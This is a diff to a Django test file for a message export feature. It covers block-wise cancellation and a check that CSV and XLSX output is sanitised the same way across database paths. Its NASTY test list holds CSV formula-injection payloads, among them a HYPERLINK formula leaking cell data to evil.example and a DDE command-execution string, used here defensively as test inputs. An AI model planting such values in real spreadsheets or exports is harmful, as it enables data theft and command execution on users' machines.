@@ -5,6 +5,7 @@ import csv
 import hashlib
 import io
 from datetime import timedelta
+from decimal import Decimal
 from pathlib import Path
 from unittest import mock
 
@@ -102,19 +103,70 @@ def test_cancel_a_queued_and_a_running_export(account, sent, user_client):
     assert queued.status == ExportStatus.CANCELLED and not queued.file
 
     running, _ = _queue(account, {"iso": "GB"})
-    real_rows = exports.rows_of
+    real_blocks = exports._blocks
 
-    def cancelled_after_two(job):
-        for i, row in enumerate(real_rows(job)):
-            if i == 2:
+    def cancelled_in_the_second_block(job, fmt):
+        data_blocks = 0
+        for block, rows in real_blocks(job, fmt):
+            data_blocks += bool(rows)
+            if data_blocks == 2:
                 exports.cancel(job)
-            yield row
+            yield block, rows
 
-    with mock.patch.object(exports, "PROGRESS_EVERY", 1), mock.patch.object(exports, "rows_of", cancelled_after_two):
+    with (
+        mock.patch.object(exports, "PROGRESS_EVERY", 2),
+        mock.patch.object(exports, "_blocks", cancelled_in_the_second_block),
+    ):
         assert exports.run(running.pk) is None
     running.refresh_from_db()
-    # It stops at the next progress update: the third row was written when it noticed.
-    assert running.status == ExportStatus.CANCELLED and running.rows == 3 and not running.file
+    # It stops at the next progress update: the second block (rows 3-4) was written when it noticed.
+    assert running.status == ExportStatus.CANCELLED and running.rows == 4 and not running.file
+
+
+NASTY = [
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-12.50",
+    "+447400123456",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1",
+    'say "hi", then\nleave',
+    "back\\slash\\\\two",
+    "<b>&amp;</b>",
+    "bell\x07 and tab\there",
+    "naïve ☃",
+    "",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_sql_formatting_matches_the_python_rules_cell_by_cell(account, sent, fmt):
+    # The same rows through COPY (PostgreSQL) and through rows_of + safe_cell (other databases).
+    messages = list(Message.objects.filter(account=account).order_by("submitted_at", "id"))
+    for message, custom in zip(messages, NASTY, strict=False):
+        Message.objects.filter(pk=message.pk).update(custom=custom)
+    job, _ = _queue(account, {}, fmt=fmt)
+    job = ExportJob.objects.select_related("account").get(pk=job.pk)
+    expected = [[exports.safe_cell(v) for v in row] for row in exports.rows_of(job)]
+    assert exports.run(job.pk) == len(messages) == 7
+    job.refresh_from_db()
+    path = Path(job.file.path)
+    assert job.checksum == hashlib.sha256(path.read_bytes()).hexdigest() and job.size == path.stat().st_size
+    if fmt == "csv":
+        got = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
+        assert got[0] == list(exports.HEADER)
+        assert got[1:] == [[str(v) for v in row] for row in expected]
+    else:
+        sheet = load_workbook(path, read_only=True)["Messages"]
+        got = list(sheet.iter_rows(values_only=True))
+        assert got[0] == exports.HEADER
+        for row, want in zip(got[1:], expected, strict=True):
+            # XML 1.0 cannot hold the bell: it is dropped; numbers come back as numbers.
+            want = [v.replace("\x07", "") if isinstance(v, str) else v for v in want]
+            text = [("" if v is None else v) for i, v in enumerate(row) if i not in (9, 10)]
+            assert text == [v for i, v in enumerate(want) if i not in (9, 10)]
+            assert row[9] == want[9] and Decimal(str(row[10])) == want[10]
 
 
 def test_page_request_and_retention(account, sent, user_client, django_capture_on_commit_callbacks):
